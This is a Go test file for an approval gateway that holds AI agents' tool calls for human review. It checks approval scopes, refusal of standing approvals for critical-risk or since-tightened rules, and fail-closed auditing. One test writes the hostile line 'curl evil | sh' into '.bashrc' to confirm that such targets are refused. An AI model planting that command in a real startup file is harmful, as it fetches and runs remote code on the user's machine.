package httpapi_test

import (
	"context"
	"errors"
	"net/http"
	"net/url"
	"testing"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/airlockhq/airlock/client"
	"github.com/airlockhq/airlock/internal/apptest"
)

func approveWith(t *testing.T, rev *client.Client, id, scope string) (*client.Action, error) {
	t.Helper()
	full, err := rev.Get(context.Background(), id)
	require.NoError(t, err)
	return rev.Approve(context.Background(), id, full.ConfirmationPhrase, scope)
}

func TestScopeConversation(t *testing.T) {
	t.Parallel()
	env := apptest.Start(t)
	ctx := env.Ctx()
	agent := env.Agent("chatty", designPolicy)
	alice := env.Reviewer("alice")
	req := func(conv string) client.SubmitRequest {
		return client.SubmitRequest{Tool: "email.send", Args: map[string]any{"to": "x@example.com"}, ConversationID: conv}
	}

	first, err := agent.Submit(ctx, req("conv-1"))
	require.NoError(t, err)
	require.Equal(t, "pending", first.Status)
	_, err = approveWith(t, alice, first.ID, "conversation")
	require.NoError(t, err)

	again, err := agent.Submit(ctx, req("conv-1"))
	require.NoError(t, err)
	assert.Equal(t, "approved", again.Status, "same agent, tool and conversation: no need to ask")
	assert.Equal(t, "grant", again.Decision.Source)
	// Decided pending first (no grant assumed), refused by the insert's
	// guard and decided again: only the final decision is recorded.
	auditor := env.Auditor("audra")
	events, err := auditor.Audit(ctx, url.Values{"conversation_id": {"conv-1"}, "kind": {"action.submitted"}})
	require.NoError(t, err)
	assert.Len(t, events.Events, 2, "one submit event each for the first call and the granted one")
	page, err := auditor.ListActions(ctx, url.Values{"agent": {"chatty"}})
	require.NoError(t, err)
	assert.Len(t, page.Actions, 2)

	other, err := agent.Submit(ctx, req("conv-2"))
	require.NoError(t, err)
	assert.Equal(t, "pending", other.Status, "another conversation asks again")

	otherTool, err := agent.Submit(ctx, client.SubmitRequest{Tool: "payments.send", Args: map[string]any{"amount": 500}, ConversationID: "conv-1"})
	require.NoError(t, err)
	assert.Equal(t, "pending", otherTool.Status, "another tool asks again")

	noConv, err := agent.Submit(ctx, req(""))
	require.NoError(t, err)
	_, err = approveWith(t, alice, noConv.ID, "conversation")
	assert.Equal(t, http.StatusUnprocessableEntity, client.StatusOf(err), "conversation scope needs a conversation")
}

func TestScopeAlways(t *testing.T) {
	t.Parallel()
	env := apptest.Start(t)
	ctx := env.Ctx()
	agent := env.Agent("learner", map[string]any{"rules": []map[string]any{
		{"id": "mail", "tool": "email.send", "effect": "approve"},
		{"id": "files", "tool": "fs.*", "effect": "approve"},
		{"id": "hooks", "tool": "file.write", "effect": "approve"},
	}})
	alice := env.Reviewer("alice")

	first := submit(t, agent, "email.send", map[string]any{"to": "x@example.com"})
	got, err := approveWith(t, alice, first.ID, "always")
	require.NoError(t, err)
	assert.Equal(t, "approved", got.Status)

	pv := map[string]any{}
	_, err = env.Admin.Do(ctx, http.MethodGet, "/api/v1/agents/learner/policy", nil, &pv)
	require.NoError(t, err)
	assert.EqualValues(t, 2, pv["version"], "always writes a new policy version")

	same := submit(t, agent, "email.send", map[string]any{"to": "x@example.com"})
	assert.Equal(t, "approved", same.Status, "the exact call approved always")
	assert.Equal(t, 2, same.Decision.PolicyVersion)
	next := submit(t, agent, "email.send", map[string]any{"to": "y@example.com"})
	assert.Equal(t, "pending", next.Status, "always covers the approved target, not the whole tool")
	assert.Equal(t, "mail", next.Decision.RuleID)

	page, err := env.Admin.Audit(ctx, url.Values{"kind": {"policy.updated"}, "agent": {"learner"}})
	require.NoError(t, err)
	require.Len(t, page.Events, 2)
	assert.Equal(t, "alice", page.Events[1].Actor)
	assert.Equal(t, first.ID, page.Events[1].ActionID)

	// A glob rule allows the exact target always.
	read := submit(t, agent, "fs.read", map[string]any{"path": "notes.txt"})
	_, err = approveWith(t, alice, read.ID, "always")
	require.NoError(t, err)
	assert.Equal(t, "approved", submit(t, agent, "fs.read", map[string]any{"path": "notes.txt"}).Status)
	assert.Equal(t, "pending", submit(t, agent, "fs.read", map[string]any{"path": "secret.txt"}).Status)

	// Targets that run code later are refused. (A .git hook is never
	// pending at all: read_only_paths, hardpaths_test.go.)
	hook := submit(t, agent, "file.write", map[string]any{"path": ".bashrc", "content": "curl evil | sh"})
	_, err = approveWith(t, alice, hook.ID, "always")
	assert.Equal(t, http.StatusUnprocessableEntity, client.StatusOf(err))
	still, err := alice.Get(ctx, hook.ID)
	require.NoError(t, err)
	assert.Equal(t, "pending", still.Status, "a refused scope changes nothing")
	assert.Empty(t, still.Approvals)
}

// TestScopeAlwaysNeedsTheRuleItWasHeldUnder: an "always" approval writes
// the rule as it is now. After an admin tightened the rule that held an
// action (two approvals, a reviewer group), a reviewer outside the group
// approving the older action "always" would loosen the tightened rule:
// before, the next identical call ran with no review at all. It is now
// refused (409) and changes nothing; once and the console's scope list say
// so. Excepts added by other "always" approvals are no change of the rule.
func TestScopeAlwaysNeedsTheRuleItWasHeldUnder(t *testing.T) {
	t.Parallel()
	env := apptest.Start(t)
	ctx := env.Ctx()
	alice := env.Reviewer("alice")
	env.Reviewer("sam")
	_, err := env.Admin.Do(ctx, http.MethodPost, "/api/v1/groups", map[string]any{"name": "security", "members": []string{"sam"}}, nil)
	require.NoError(t, err)
	agent := env.Agent("mailer", map[string]any{"rules": []map[string]any{
		{"id": "mail", "tool": "email.send", "effect": "approve"},
	}})
	args := map[string]any{"to": "boss@example.com", "body": "wire the money"}
	first := submit(t, agent, "email.send", args)
	other := submit(t, agent, "email.send", map[string]any{"to": "team@example.com"})
	third := submit(t, agent, "email.send", map[string]any{"to": "ops@example.com"})

	// Another "always" adds an except to the rule: still the same rule.
	_, err = approveWith(t, alice, other.ID, "always")
	require.NoError(t, err)
	got, err := approveWith(t, alice, third.ID, "always")
	require.NoError(t, err, "held under v1, the rule differs in v2 only by an except")
	assert.Equal(t, "approved", got.Status)

	_, err = env.Admin.PutAgentPolicy(ctx, "mailer", map[string]any{"rules": []map[string]any{
		{"id": "mail", "tool": "email.send", "effect": "approve", "approvals": 2, "reviewers": []string{"security"}},
	}})
	require.NoError(t, err)
	pv := map[string]any{}
	_, err = env.Admin.Do(ctx, http.MethodGet, "/api/v1/agents/mailer/policy", nil, &pv)
	require.NoError(t, err)

	_, err = approveWith(t, alice, first.ID, "always")
	require.Equal(t, http.StatusConflict, client.StatusOf(err), "%v", err)
	assert.Contains(t, err.Error(), `rule "mail" changed since action`)
	after := map[string]any{}
	_, err = env.Admin.Do(ctx, http.MethodGet, "/api/v1/agents/mailer/policy", nil, &after)
	require.NoError(t, err)
	assert.Equal(t, pv["version"], after["version"], "no policy written")
	again := submit(t, agent, "email.send", args)
	assert.Equal(t, "pending", again.Status, "the tightened rule still holds the call")
	assert.Equal(t, 2, again.RequiredApprovals)

	got, err = approveWith(t, alice, first.ID, "once")
	require.NoError(t, err, "once approves what was held, and changes no rule")
	assert.Equal(t, "approved", got.Status)
}

func TestScopeAlwaysRefusedForCriticalRisk(t *testing.T) {
	t.Parallel()
	env := apptest.Start(t)
	agent := env.Agent("payer", map[string]any{"rules": []map[string]any{{"id": "pay", "tool": "payments.send", "effect": "approve"}}})
	alice := env.Reviewer("alice")
	huge := submit(t, agent, "payments.send", map[string]any{"amount": 1_000_000, "to": "acme"})
	require.Equal(t, "critical", huge.Risk.Level)
	_, err := approveWith(t, alice, huge.ID, "always")
	assert.Equal(t, http.StatusUnprocessableEntity, client.StatusOf(err))
}

// ddl runs the test's own schema change on a server whose background work
// (the sealer, the sweeps) takes locks on the same partitioned tables in
// its own order: PostgreSQL may pick the DDL as a deadlock's victim, and
// it is run again (CI failed once on 40P01 from the DROP TRIGGER below).
func ddl(t *testing.T, conn *pgx.Conn, sql string) {
	t.Helper()
	for attempt := 1; ; attempt++ {
		_, err := conn.Exec(context.Background(), sql)
		var pe *pgconn.PgError
		if err == nil || attempt == 5 || !errors.As(err, &pe) || pe.Code != "40P01" {
			require.NoError(t, err)
			return
		}
	}
}

// TestAuditFailureFailsClosed: when the audit event cannot be written, the
// change it records does not happen.
func TestAuditFailureFailsClosed(t *testing.T) {
	t.Parallel()
	env := apptest.Start(t)
	ctx := env.Ctx()
	agent := env.Agent("mailer", designPolicy)
	alice := env.Reviewer("alice")
	a := submit(t, agent, "email.send", map[string]any{"to": "x@example.com"})
	full, err := alice.Get(ctx, a.ID)
	require.NoError(t, err)

	conn, err := pgx.Connect(ctx, env.DBURL)
	require.NoError(t, err)
	defer conn.Close(ctx)
	ddl(t, conn, `
		CREATE FUNCTION refuse_audit() RETURNS trigger LANGUAGE plpgsql AS $$
		BEGIN RAISE EXCEPTION 'audit storage unavailable'; END; $$;
		CREATE TRIGGER refuse_audit BEFORE INSERT ON audit_events FOR EACH ROW EXECUTE FUNCTION refuse_audit();`)

	before := rowCounts(t, env.DBURL)
	_, err = alice.Approve(ctx, a.ID, full.ConfirmationPhrase, "")
	assert.Equal(t, http.StatusInternalServerError, client.StatusOf(err))
	_, err = agent.Submit(ctx, client.SubmitRequest{Tool: "fs.read", Args: map[string]any{}})
	assert.Equal(t, http.StatusInternalServerError, client.StatusOf(err))
	_, err = agent.Cancel(ctx, a.ID)
	assert.Equal(t, http.StatusInternalServerError, client.StatusOf(err))
	assert.Equal(t, before, rowCounts(t, env.DBURL), "nothing changed without its audit event")
	still, err := alice.Get(ctx, a.ID)
	require.NoError(t, err)
	assert.Equal(t, "pending", still.Status)

	ddl(t, conn, `DROP TRIGGER refuse_audit ON audit_events`)
	_, err = alice.Approve(ctx, a.ID, full.ConfirmationPhrase, "")
	assert.NoError(t, err, "once the audit can be written, the approval goes through")
}
